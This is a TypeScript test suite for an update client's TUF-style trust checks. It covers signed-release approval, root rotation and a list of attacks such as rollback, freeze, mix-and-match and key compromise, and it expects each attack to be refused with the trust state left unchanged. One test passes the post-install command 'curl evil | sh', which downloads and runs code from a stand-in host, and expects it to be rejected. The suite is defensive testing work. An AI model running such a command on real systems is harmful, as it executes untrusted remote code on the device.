/**
 * The client workflow end to end against an in-memory repository, and the TUF attack list: each
 * attack is refused with its own code and leaves the persisted trust state as it was (nothing
 * installed: no artifact is approved).
 */
import { describe, expect, it } from 'vitest';
import { TrustError, type TrustCode } from '../../agent/trust/errors.ts';
import { TrustState } from '../../agent/trust/state.ts';
import { refreshMetadata, resolveTarget } from '../../agent/trust/updater.ts';
import { approveTarget, checkArtifact } from '../../agent/trust/artifact.ts';
import { TRUST_ENGINES } from './engines.ts';
import { DAY, NOW, TestRepo, newKey, newMedium, sha256Hex } from './fixture.ts';

async function device(repo: TestRepo) {
  const store = await newMedium().open();
  const state = new TrustState(store);
  await state.provision(repo.rootBytes(1));
  return { store, state };
}

const clock = (rtcMs = NOW) => ({ rtcMs });

async function refused(promise: Promise<unknown>, code: TrustCode): Promise<TrustError> {
  const error = await promise.then(() => undefined, (e: unknown) => e);
  expect(error).toBeInstanceOf(TrustError);
  expect((error as TrustError).code).toBe(code);
  return error as TrustError;
}

/**
 * The persisted trust state. With `signedAbove` the timestamp and snapshot are left out: a refusal
 * at the targets step comes after a genuine, newer timestamp and snapshot were accepted and saved
 * (they are the server's, only the targets were forged), as in the TUF workflow.
 */
function dump(store: { keys(): string[]; get(k: string): Uint8Array | undefined }, signedAbove = false): Record<string, string> {
  const keys = store.keys().filter((k) => !signedAbove || (k !== 'trust/role/timestamp' && k !== 'trust/role/snapshot'));
  return Object.fromEntries(keys.map((k) => [k, sha256Hex(store.get(k)!)]));
}

describe.each(TRUST_ENGINES)('with the $name signature verifier', ({ crypto }) => {
  describe('trust workflow', () => {
    it('accepts a signed release and approves exactly the signed artifact', async () => {
      const repo = new TestRepo();
      const app = repo.add('packages/app-1.2.0.tar', 'app bytes', { version: '1.2.0', hardware: ['sim'], postInstall: 'systemctl restart app' });
      repo.publish();
      const { state } = await device(repo);
      const set = await refreshMetadata(state, repo.source(), clock(), crypto);
      const target = await resolveTarget(set, repo.source(), app.path);
      const approved = approveTarget(target, app.path, { hardware: 'sim' });
      expect(approved).toEqual({ path: app.path, version: '1.2.0', postInstall: 'systemctl restart app', raisesMinimum: true });
      expect(() => checkArtifact(target!, { length: app.bytes.length, sha256: sha256Hex(app.bytes) })).not.toThrow();
      expect(state.role('targets')).toEqual(repo.files.get('targets.json'));
      expect(state.now(clock(0))).toBe(NOW); // the trusted time is persisted
    });

    it('follows a root rotation chain and drops the baseline when the timestamp keys rotate', async () => {
      const repo = new TestRepo('ecdsa-p256');
      repo.add('a', 'a');
      repo.publish();
      const { state } = await device(repo);
      await refreshMetadata(state, repo.source(), clock(), crypto);
      repo.rotateRoot({ root: [newKey()], timestamp: [newKey('ecdsa-p256')] });
      repo.rotateRoot({ root: [newKey()] });
      repo.refresh();
      const set = await refreshMetadata(state, repo.source(), clock(), crypto);
      expect(set.root.version).toBe(3);
      expect(state.rootBytes()).toEqual(repo.rootBytes(3));
    });
  });

  describe('the TUF attack list: each refused, nothing trusted or installed', () => {
    async function attack(setup: (repo: TestRepo) => Map<string, Uint8Array> | void, code: TrustCode, rtcMs = NOW, signedAbove = false) {
      const repo = new TestRepo();
      repo.add('app', 'v1', { version: '1.0.0' });
      repo.publish();
      const { state, store } = await device(repo);
      await refreshMetadata(state, repo.source(), clock(), crypto);
      const before = dump(store, signedAbove);
      const files = setup(repo) ?? repo.files;
      const error = await refused(refreshMetadata(state, repo.source(files), clock(rtcMs), crypto), code);
      expect(dump(store, signedAbove)).toEqual(before);
      return error;
    }

    it('arbitrary package: targets signed by a key the root does not list', async () => {
      await attack((repo) => {
        repo.add('evil', 'evil');
        repo.publish({ targets: [newKey()] });
      }, 'badSignature', NOW, true);
    });

    it('arbitrary package: an artifact no targets entry names is not approved', async () => {
      const repo = new TestRepo();
      repo.publish();
      const { state } = await device(repo);
      const set = await refreshMetadata(state, repo.source(), clock(), crypto);
      const target = await resolveTarget(set, repo.source(), 'evil');
      expect(() => approveTarget(target, 'evil', { hardware: 'sim' })).toThrow(expect.objectContaining({ code: 'unknownTarget' }));
    });

    it('rollback of metadata: an older, validly signed timestamp', async () => {
      const repo = new TestRepo();
      repo.add('app', 'v1');
      repo.publish();
      const old = repo.copyFiles();
      repo.publish();
      const { state, store } = await device(repo);
      await refreshMetadata(state, repo.source(), clock(), crypto);
      const before = dump(store);
      await refused(refreshMetadata(state, repo.source(old), clock(), crypto), 'rollback');
      expect(dump(store)).toEqual(before);
    });

    it('freeze: an expired timestamp', async () => {
      await attack(() => undefined, 'expired', NOW + 2 * DAY);
    });

    it('indefinite freeze: a device clock set back does not bring expired metadata back to life', async () => {
      const repo = new TestRepo();
      repo.publish();
      const { state } = await device(repo);
      await refreshMetadata(state, repo.source(), clock(), crypto);
      const frozen = repo.copyFiles();
      // Later the device learned a newer time from a manager (reference counter), then its RTC resets.
      await refused(refreshMetadata(state, repo.source(frozen), { rtcMs: 0, referenceCounter: Math.floor((NOW + 3 * DAY) / 1000) }, crypto), 'expired');
      // And the persisted trusted time alone (RTC reset to 0, no counter) is still today, not 1970.
      expect(state.now({ rtcMs: 0 })).toBeGreaterThanOrEqual(NOW);
    });

    it('mix-and-match: a snapshot other than the one the timestamp names', async () => {
      await attack((repo) => {
        const files = repo.copyFiles();
        repo.refresh();
        files.set('timestamp.json', repo.files.get('timestamp.json')!); // new timestamp, old snapshot
        return files;
      }, 'hashMismatch', NOW, true);
    });

    it('endless data: a metadata file over its cap is not read', async () => {
      await attack((repo) => {
        const files = repo.copyFiles();
        files.set('timestamp.json', new Uint8Array(64 * 1024).fill(0x20));
        return files;
      }, 'tooLarge');
    });

    it('key compromise below the threshold: one of two targets keys', async () => {
      const repo = new TestRepo();
      repo.thresholds.targets = 2;
      repo.keys.targets = [newKey(), newKey('ecdsa-p256')];
      repo.rotateRoot();
      repo.add('app', 'v1');
      repo.publish();
      const { state, store } = await device(repo);
      await refreshMetadata(state, repo.source(), clock(), crypto);
      const before = dump(store, true);
      repo.add('evil', 'evil');
      repo.publish({ targets: [repo.keys.targets[0]!] });
      await refused(refreshMetadata(state, repo.source(), clock(), crypto), 'badSignature');
      expect(dump(store, true)).toEqual(before);
    });

    it('a signature counted twice does not reach a threshold of two', async () => {
      const repo = new TestRepo();
      repo.thresholds.targets = 2;
      repo.keys.targets = [newKey(), newKey()];
      repo.rotateRoot();
      const key = repo.keys.targets[0]!;
      repo.publish({ targets: [key, key] });
      const { state } = await device(repo);
      await refused(refreshMetadata(state, repo.source(), clock(), crypto), 'badSignature');
    });

    it('rotated-out keys: metadata signed with the old timestamp key after a rotation', async () => {
      const repo = new TestRepo();
      repo.publish();
      const { state, store } = await device(repo);
      await refreshMetadata(state, repo.source(), clock(), crypto);
      const oldTimestampKey = repo.keys.timestamp;
      repo.rotateRoot({ timestamp: [newKey()] });
      repo.refresh({ timestamp: oldTimestampKey });
      await refused(refreshMetadata(state, repo.source(), clock(), crypto), 'badSignature');
      // the verified new root is kept (a later good timestamp must verify against it)
      expect(state.rootBytes()).toEqual(repo.rootBytes(2));
      expect(Object.keys(dump(store))).not.toContain('trust/role/timestamp');
    });

    it('rotated-out keys: a new root signed only by the old root keys (not by its own)', async () => {
      const repo = new TestRepo();
      repo.publish();
      const { state } = await device(repo);
      const oldRoot = repo.keys.root;
      repo.rotateRoot({ root: [newKey()] }, oldRoot);
      await refused(refreshMetadata(state, repo.source(), clock(), crypto), 'badSignature');
      expect(state.rootBytes()).toEqual(repo.rootBytes(1));
    });

    it('a root that skips a version is refused', async () => {
      const repo = new TestRepo();
      repo.publish();
      const { state } = await device(repo);
      const files = repo.copyFiles();
      repo.versions.root = 2;
      repo.rotateRoot(); // version 3 published as 2.root.json below
      files.set('2.root.json', repo.files.get('3.root.json')!);
      await refused(refreshMetadata(state, repo.source(files), clock(), crypto), 'versionMismatch');
    });

    it('downgrade of a package: below the persisted minimum unless the release allows it', async () => {
      const repo = new TestRepo();
      repo.add('app', 'old', { version: '1.0.0' });
      repo.add('fw', 'old fw', { version: '2.0.0', allowDowngrade: true });
      repo.publish();
      const { state } = await device(repo);
      const set = await refreshMetadata(state, repo.source(), clock(), crypto);
      await state.raiseMinimum('package', 'app', '1.1.0');
      await state.raiseMinimum('image', 'fw', '2.1.0');
      const app = await resolveTarget(set, repo.source(), 'app');
      expect(() => approveTarget(app, 'app', { hardware: 'sim', minimumVersion: state.minimum('package', 'app') })).toThrow(expect.objectContaining({ code: 'downgrade' }));
      const fw = await resolveTarget(set, repo.source(), 'fw');
      expect(approveTarget(fw, 'fw', { hardware: 'sim', minimumVersion: state.minimum('image', 'fw') }).raisesMinimum).toBe(false);
      expect(await state.raiseMinimum('package', 'app', '1.0.9')).toBe(false); // the minimum never goes down
      expect(state.minimum('package', 'app')).toBe('1.1.0');
      // as ops for a pipeline's commit batch: none for a lower or equal version, one put for a higher
      expect(state.raiseMinimumOps('package', 'app', '1.1.0')).toEqual([]);
      expect(state.raiseMinimumOps('package', 'app', '1.2.0')).toEqual([expect.objectContaining({ kind: 'put', key: 'trust/min/package/app' })]);
      expect(state.raiseMinimumOps('image', 'other', '0.1')).toHaveLength(1);
    });

    it('wrong hardware and an unsigned post-install command', async () => {
      const repo = new TestRepo();
      repo.add('app', 'x', { version: '1.0.0', hardware: ['board-a'], postInstall: 'restart' });
      repo.publish();
      const { state } = await device(repo);
      const set = await refreshMetadata(state, repo.source(), clock(), crypto);
      const app = await resolveTarget(set, repo.source(), 'app');
      expect(() => approveTarget(app, 'app', { hardware: 'board-b' })).toThrow(expect.objectContaining({ code: 'hardware' }));
      expect(() => approveTarget(app, 'app', { hardware: 'board-a', offeredPostInstall: 'curl evil | sh' })).toThrow(expect.objectContaining({ code: 'unsignedCommand' }));
      expect(approveTarget(app, 'app', { hardware: 'board-a', offeredPostInstall: 'restart' }).postInstall).toBe('restart');
    });

    it('tampered artifact bytes: length and digest', async () => {
      const repo = new TestRepo();
      const a = repo.add('app', 'genuine');
      repo.publish();
      const { state } = await device(repo);
      const target = (await resolveTarget(await refreshMetadata(state, repo.source(), clock(), crypto), repo.source(), 'app'))!;
      expect(() => checkArtifact(target, { length: 8, sha256: sha256Hex(a.bytes) })).toThrow(expect.objectContaining({ code: 'lengthMismatch' }));
      expect(() => checkArtifact(target, { length: a.bytes.length, sha256: sha256Hex('genuinf') })).toThrow(expect.objectContaining({ code: 'digestMismatch' }));
    });

    it('slow retrieval: a source past its deadline fails the refresh, nothing saved', async () => {
      const repo = new TestRepo();
      repo.publish();
      const { state, store } = await device(repo);
      const before = dump(store);
      const slow = {
        fetch: (file: string) =>
          new Promise<Uint8Array | undefined>((resolve, reject) => {
            if (file.endsWith('.root.json')) return resolve(undefined);
            setTimeout(() => reject(new Error(`deadline passed for ${file}`)), 20);
          }),
      };
      await expect(refreshMetadata(state, slow, clock(), crypto)).rejects.toThrow(/deadline/);
      expect(dump(store)).toEqual(before);
    });
  });
});
